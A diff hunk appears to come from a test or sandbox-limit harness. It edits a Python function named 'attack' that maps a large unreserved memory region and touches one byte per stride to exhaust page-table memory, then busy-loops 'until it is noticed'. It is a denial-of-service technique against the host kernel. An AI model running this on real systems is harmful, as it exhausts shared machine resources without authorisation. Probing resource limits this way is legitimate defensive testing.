@@ -13,7 +13,7 @@ def attack(_: dict) -> None:
     size = TABLES // PAGE * REACH
     place = libc.mmap(None, ctypes.c_size_t(size), PROT_READ, PRIVATE_ANONYMOUS_UNRESERVED, -1, 0)
     for at in range(place, place + size, REACH):
-        ctypes.c_char.from_address(at).value
+        ctypes.string_at(at, 1)
     while True:  # until it is noticed
         pass
 
